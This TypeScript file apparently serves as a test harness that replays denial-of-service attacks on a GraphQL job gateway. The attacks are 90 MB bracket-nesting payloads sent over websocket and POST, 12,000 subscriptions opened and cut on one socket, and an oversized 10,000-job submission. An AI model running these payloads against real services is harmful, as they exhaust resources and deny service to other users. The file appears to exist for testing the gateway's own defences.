/** Requests and messages by which one client delayed all others. */
import { once } from 'node:events';
import { setTimeout as pause } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { Worker } from 'node:worker_threads';

const mebibyte = 1024 * 1024;

/** The system that is attacked, and who attacks it. */
export interface AttackTarget {
  readonly url: string;
  readonly experiment: string;
  readonly reader: string;
  readonly user: string;
}

/** One attack; resolves when it is over. */
export interface Attack {
  readonly name: string;
  run(target: AttackTarget): Promise<void>;
}

async function socketOf({ url }: AttackTarget): Promise<WebSocket> {
  const socket = new WebSocket(url.replace('http', 'ws'), 'graphql-transport-ws');
  socket.on('error', () => undefined);
  await once(socket, 'open');
  return socket;
}

async function post({ url }: AttackTarget, token: string, body: string): Promise<void> {
  const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` };
  // The gateway may close the connection while the body is being sent.
  await fetch(url, { method: 'POST', headers, body }).then(
    (answer) => answer.text(),
    () => undefined,
  );
}

const brackets: Attack = {
  name: '90 MB of brackets before a token',
  run: async (target) => {
    const socket = await socketOf(target);
    const closed = once(socket, 'close');
    socket.send(`{"type":"connection_init","payload":{"a":${'['.repeat(90 * mebibyte)}`, () => undefined);
    await closed;
  },
};

const readersBody: Attack = {
  name: '90 MB of brackets of a reader',
  run: async (target) => post(target, target.reader, `{"variables":{"a":${'['.repeat(90 * mebibyte)}`),
};

const subscriptions: Attack = {
  name: '12,000 subscriptions of one socket, opened and cut',
  run: async (target) => {
    const socket = await socketOf(target);
    const authorization = `Bearer ${target.user}`;
    socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization } }));
    await once(socket, 'message');
    let answered = 0;
    const all = new Promise<void>((resolve) => {
      socket.on('message', () => ++answered >= 12_000 && resolve());
      socket.once('close', () => resolve());
    });
    for (let at = 0; at < 12_000; at++) {
      const query = `subscription { jobStateChanged(filter: { labels: [{ key: "k", value: "${at}" }] }) { cursor } }`;
      socket.send(JSON.stringify({ id: String(at), type: 'subscribe', payload: { query } }));
    }
    await all;
    socket.terminate();
    await pause(4000);
  },
};

const largeSubmit: Attack = {
  name: 'a submit of 10,000 jobs with 90 MB',
  run: async (target) => {
    const environment = Array.from({ length: 10 }, (_, at) => ({ name: `V${at}`, value: 'v'.repeat(850) }));
    const jobs = Array.from({ length: 10_000 }, (_, at) => ({
      name: `large-${at}`,
      requirements: { cores: 1, memoryMiB: 100, walltimeSeconds: 600 },
      payload: { command: 'true', environment },
    }));
    const query =
      'mutation ($input: SubmitJobsInput!) { submitJobs(input: $input) { userErrors { message } } }';
    const variables = { input: { experiment: target.experiment, idempotencyKey: 'large', jobs } };
    await post(target, target.user, JSON.stringify({ query, variables }));
  },
};

/** The attacks, in the order in which they run. */
export const attacks: readonly Attack[] = [brackets, readersBody, subscriptions, largeSubmit];

/** Runs an attack on a thread of its own. */
export function runAttack(name: string, target: AttackTarget): Promise<void> {
  return new Promise((resolve, reject) => {
    const worker = new Worker(new URL('./attack-thread.js', import.meta.url), {
      workerData: { name, target },
    });
    worker.once('message', () => resolve());
    worker.once('error', reject);
  });
}
